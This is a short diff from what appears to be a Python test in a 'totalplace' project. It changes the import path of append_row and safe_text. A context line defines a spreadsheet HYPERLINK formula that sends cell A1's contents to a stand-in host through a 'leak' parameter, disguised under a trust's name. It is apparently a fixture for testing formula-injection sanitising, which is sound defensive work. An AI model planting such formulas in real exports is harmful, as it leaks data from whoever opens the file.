@@ -15,7 +15,7 @@ from totalplace.count.place_count import CountLine, PlaceCount
 from totalplace.orgs.registry import org_registry
 from totalplace.reference.places import Place
 from totalplace.report.export import write_exports
-from totalplace.report.sheets import append_row, safe_text
+from totalplace.sheets import append_row, safe_text
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Northmoor Trust")'
 
